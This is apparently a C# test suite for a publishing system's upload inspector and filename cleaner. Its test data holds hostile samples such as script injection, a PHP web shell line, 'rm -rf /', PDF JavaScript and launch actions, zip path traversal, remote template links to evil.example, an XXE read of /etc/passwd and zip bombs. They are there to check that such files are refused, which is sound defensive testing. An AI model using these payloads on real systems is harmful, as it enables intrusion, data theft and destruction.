using System.IO.Compression;
using Gongkai.Operations.Publishing.Content.Files;
using static Gongkai.Operations.Tests.Publishing.Content.Files.MadeFiles;

namespace Gongkai.Operations.Tests.Publishing.Content.Files;

public sealed class UploadInspectionTests
{
    private static string Verdict(string name, byte[] bytes)
    {
        var found = UploadInspection.Inspect(name, bytes);
        return found.Failed ? found.Problems.Single().Code : found.Value.Kind.ToString();
    }

    public static TheoryData<string, byte[], string> Files => new()
    {
        { "a.pdf", Pdf(), "Pdf" },
        { "a.docx", Docx(), "Docx" },
        { "a.xlsx", Xlsx(), "Xlsx" },
        { "a.pptx", Zip(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>")), "Pptx" },
        { "a.ofd", Zip(("OFD.xml", "<x/>"), ("Doc_0/Document.xml", "<x/>")), "Ofd" },
        { "a.zip", Zip(("表.xlsx", "x"), ("图/a.png", "y")), "Zip" },
        { "a.doc", Compound("Root Entry", "WordDocument"), "Doc" },
        { "a.wps", Compound("Root Entry", "WordDocument"), "Doc" },
        { "a.xls", Compound("Root Entry", "Workbook"), "Xls" },
        { "a.JPG", Jpeg(), "Jpeg" },
        { "a.jpeg", Jpeg(Exif((0x0112, 6))), "Jpeg" },
        { "a.png", Png(), "Png" },
        { "a.gif", Gif(), "Gif" },
        { "a.webp", Webp(), "Webp" },
        { "a.txt", Text("通知\r\n正文，x < y 时 a > b"), "Text" },
        { "a.csv", Text("甲,乙\r\n1,2\r\n"), "Csv" },
        { "a.docx", Docx("", ("word/_rels/document.xml.rels", Relationships + """<Relationship Id="h" Type="http://x/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/></Relationships>""")), "Docx" },
        { "a.docx", Docx("", ("word/_rels/settings.xml.rels", Relationships + """<Relationship Id="t" Type="http://x/attachedTemplate" Target="file:///C:\Users\x\Normal.dotm" TargetMode="External"/></Relationships>""")), "Docx" },
    };

    [Theory, MemberData(nameof(Files))]
    public void A_file_is_what_its_content_says(string name, byte[] bytes, string kind) => Verdict(name, bytes).ShouldBe(kind);

    public static TheoryData<string, byte[], string> Hostile => new()
    {
        { "a.txt", [], "file.empty" },
        { "a.pdf", Text("<html><script>alert(1)</script></html>"), "file.html" },
        { "a.txt", Text("<!DOCTYPE html><p>x"), "file.html" },
        { "a.txt", Text("  \n<?php system($_GET[1]); ?>"), "file.html" },
        { "a.csv", Text("a,b\n<script>alert(1)</script>,c"), "file.html" },
        { "a.svg", Text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), "file.svg" },
        { "a.png", Text("<?xml version='1.0'?><svg onload='alert(1)'/>"), "file.svg" },
        { "a.jpg", Text("GIF89a<script>alert(1)</script>"), "file.polyglot" },
        { "a.gif", [.. "GIF89a/*"u8, .. Text("<script>alert(1)</script>*/=1;")], "file.polyglot" },
        { "a.exe", [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0], "file.program" },
        { "a.pdf", [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0], "file.program" },
        { "a.txt", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0], "file.program" },
        { "a.txt", Text("#!/bin/sh\nrm -rf /"), "file.program" },
        { "a.jpg", Png(), "file.mismatch" },
        { "a.pdf", Docx(), "file.mismatch" },
        { "a.pdf.exe", Pdf(), "file.mismatch" },
        { "a", Pdf(), "file.mismatch" },
        { "报告\u202Efdp.exe", Pdf(), "file.mismatch" },
        { "a.pdf", [.. Pdf(), .. Zip(("a.exe", new string('x', 3000)))], "file.polyglot" },
        { "a.pdf", Text("%PDF-1.4\n<script>alert(1)</script>\n%%EOF"), "file.polyglot" },
        { "a.pdf", Text("%PDF-1.4\n1 0 obj"), "file.damaged" },
        { "a.pdf", Pdf("3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "file.active" },
        { "a.pdf", Pdf("3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "file.active" },
        { "a.pdf", Pdf("trailer<</Encrypt 5 0 R>>"), "file.encrypted" },
        { "a.png", [.. Png(), .. Text("<script>alert(1)</script>")], "file.polyglot" },
        { "a.png", Png()[..^8], "file.damaged" },
        { "a.png", Png(30_000, 10), "file.pixels" },
        { "a.png", Png(20_000, 20_000), "file.pixels" },
        { "a.jpg", [.. Jpeg(), .. Zip(("a.txt", "x"))], "file.polyglot" },
        { "a.jpg", [.. Jpeg(), .. Text("<?php x ?>")], "file.polyglot" },
        { "a.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 2], "file.damaged" },
        { "a.webp", [.. Webp(), .. Text("<script>x</script>")], "file.polyglot" },
        { "a.zip", [.. Zip(("a.txt", "x")), 1, 2, 3], "file.polyglot" },
        { "a.zip", Zip(("../../etc/passwd", "x")), "file.paths" },
        { "a.zip", Zip(("/etc/passwd", "x")), "file.paths" },
        { "a.zip", Zip(("a\\..\\b.txt", "x")), "file.paths" },
        { "a.zip", Zip(("C:/x.txt", "x")), "file.paths" },
        { "a.zip", Zip(("说明.txt", "x"), ("安装.exe", "x")), "file.inside" },
        { "a.zip", Zip(("页.html", "x")), "file.inside" },
        { "a.docx", Docx("", ("word/vbaProject.bin", "x")), "file.macro" },
        { "a.docx", Zip(("[Content_Types].xml", """<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"""), ("word/document.xml", "<x/>")), "file.macro" },
        { "a.xlsx", Xlsx(more: ("xl/macrosheets/sheet1.xml", "<x/>")), "file.active" },
        { "a.docx", Docx("", ("word/activeX/activeX1.xml", "<x/>")), "file.active" },
        { "a.docx", Docx("", ("word/_rels/settings.xml.rels", Relationships + """<Relationship Id="t" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>""")), "file.external" },
        { "a.docx", Docx("", ("word/_rels/settings.xml.rels", Relationships + """<Relationship Id="t" Type="http://x/attachedTemplate" Target="\\evil\t.dotm" TargetMode="External"/></Relationships>""")), "file.external" },
        { "a.docx", Docx("", ("word/_rels/document.xml.rels", Relationships + """<Relationship Id="o" Type="http://x/oleObject" Target="mhtml:http://evil.example/!x-usc:http://evil.example" TargetMode="External"/></Relationships>""")), "file.external" },
        { "a.docx", Docx("", ("word/_rels/document.xml.rels", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>")), "file.damaged" },
        { "a.doc", Compound("Root Entry", "WordDocument", "Macros", "_VBA_PROJECT"), "file.macro" },
        { "a.docx", Compound("Root Entry", "EncryptedPackage"), "file.encrypted" },
        { "a.doc", Compound("Root Entry", "Something"), "file.kind" },
        { "a.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0], "file.damaged" },
        { "a.zip", [.. "PK\x03\x04"u8, 1, 2, 3], "file.damaged" },
        { "a.rtf", Text("{\\rtf1 x}"), "file.kind" },
        { "a.bin", [1, 2, 3, 0, 4], "file.kind" },
        { "a.txt", [.. Text("通知"), 0, 1], "file.kind" },
    };

    [Theory, MemberData(nameof(Hostile))]
    public void A_file_that_is_not_what_it_should_be_is_refused(string name, byte[] bytes, string code) => Verdict(name, bytes).ShouldBe(code);

    [Fact]
    public void What_is_too_much_is_refused()
    {
        Verdict("a.pdf", new byte[UploadInspection.MaxBytes + 1]).ShouldBe("file.too-large");
        Verdict("a.zip", Zip([.. Enumerable.Range(0, 5001).Select(n => ($"{n}.txt", "x"))])).ShouldBe("file.bomb");
    }

    [Fact]
    public void A_zip_that_unfolds_to_far_more_is_refused()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("a.txt", CompressionLevel.SmallestSize).Open();
            entry.Write(new byte[50 << 20]);
        }

        Verdict("a.zip", stream.ToArray()).ShouldBe("file.bomb");
    }

    [Fact]
    public void Any_damage_to_any_file_is_borne()
    {
        var random = new Random(7);
        foreach (var row in Files)
        {
            var (name, bytes) = ((string)row[0], (byte[])row[1]);
            for (var n = 0; n < 150; n++)
            {
                var broken = (byte[])bytes.Clone();
                for (var k = 0; k < 1 + n % 6; k++)
                {
                    broken[random.Next(broken.Length)] = (byte)random.Next(256);
                }

                broken = n % 3 == 0 ? broken[..random.Next(1, broken.Length)] : broken;
                var found = UploadInspection.Inspect(name, broken);
                if (!found.Failed)
                {
                    _ = FileChecks.Find(found.Value.Kind, name, broken);
                    _ = found.Value.Kind is FileKind.Pdf ? null : FileText.Read(found.Value.Kind, broken, CancellationToken.None);
                }
            }
        }
    }

    [Theory]
    [InlineData("../../etc/passwd.pdf", "passwd.pdf")]
    [InlineData("C:\\Users\\某人\\通知.PDF", "通知.pdf")]
    [InlineData("通知\u202Efdp.exe", "通知fdp.exe")]
    [InlineData("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf")]
    [InlineData("\0\u0007.pdf", "附件.pdf")]
    [InlineData("   ...pdf", "附件.pdf")]
    [InlineData("CON.pdf", "_CON.pdf")]
    [InlineData("lpt1.tar.pdf", "_lpt1.tar.pdf")]
    [InlineData("a<b>|c?.pdf. . ", "a_b__c_.pdf")]
    [InlineData("", "附件")]
    [InlineData("通知\u200B（一）.docx", "通知（一）.docx")]
    public void Names_are_made_safe(string name, string clean) => FileName.Clean(name).ShouldBe(clean);

    [Fact]
    public void Long_names_keep_their_extension() => FileName.Clean(new string('长', 400) + ".docx").ShouldBe(new string('长', 115) + ".docx");
}
